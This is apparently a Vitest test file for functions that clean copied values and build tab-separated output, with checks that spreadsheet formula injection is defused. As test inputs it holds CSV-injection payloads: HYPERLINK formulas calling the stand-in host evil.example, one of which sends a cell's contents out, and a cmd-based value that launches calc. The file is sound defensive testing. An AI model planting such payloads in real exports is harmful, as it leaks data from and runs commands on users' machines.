import { expect, test } from 'vitest'
import { plainText, tabSeparated } from '../../src/core/plainText'

test('a value is copied without the marks and blanks that nobody sees', () => {
  expect(plainText(' \u200EABC\u00A0123\u2069\u202C\uFEFF ')).toBe('ABC 123')
})

test('what can be seen stays to the letter', () => {
  for (const value of ['0012-34', 'محمد', 'Zoë', '王秀英', 'می\u200Cخواهم', 'A  B'])
    expect(plainText(value)).toBe(value)
})

test('each value is one cell, whatever stands in it', () => {
  expect(
    tabSeparated([
      ['Name', 'A\tB\r\nC'],
      ['', '"x"'],
    ]),
  ).toBe('Name\tA B C\n\t"x"')
})

test.each([
  ['=HYPERLINK("https://evil.example")', `'=HYPERLINK("https://evil.example")`],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['+cmd', "'+cmd"],
  ['-A1', "'-A1"],
  ['\u200E=1', "'=1"],
  ['+ HYPERLINK("https://evil.example/?"&A1)', `'+ HYPERLINK("https://evil.example/?"&A1)`],
  ['-(HYPERLINK("https://evil.example"))', `'-(HYPERLINK("https://evil.example"))`],
  ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
  ['+1 (555) 010-0201', '+1 (555) 010-0201'],
  ['+1 555 010 0201', '+1 555 010 0201'],
  ['-2.5', '-2.5'],
])('a spreadsheet is not made to compute %s', (value, cell) => {
  expect(tabSeparated([[value]])).toBe(cell)
})
